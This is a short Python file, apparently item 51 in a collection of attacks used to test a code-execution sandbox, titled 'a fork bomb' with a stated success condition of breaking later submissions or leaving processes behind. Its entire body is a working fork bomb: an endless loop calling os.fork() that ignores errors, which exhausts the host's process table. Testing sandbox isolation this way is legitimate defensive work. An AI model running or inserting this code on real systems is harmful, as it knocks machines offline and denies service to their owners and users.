# attack: 51
# title: a fork bomb
# success: the next submission fails, or a process is left
# unshown: would harm the machine without a box
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
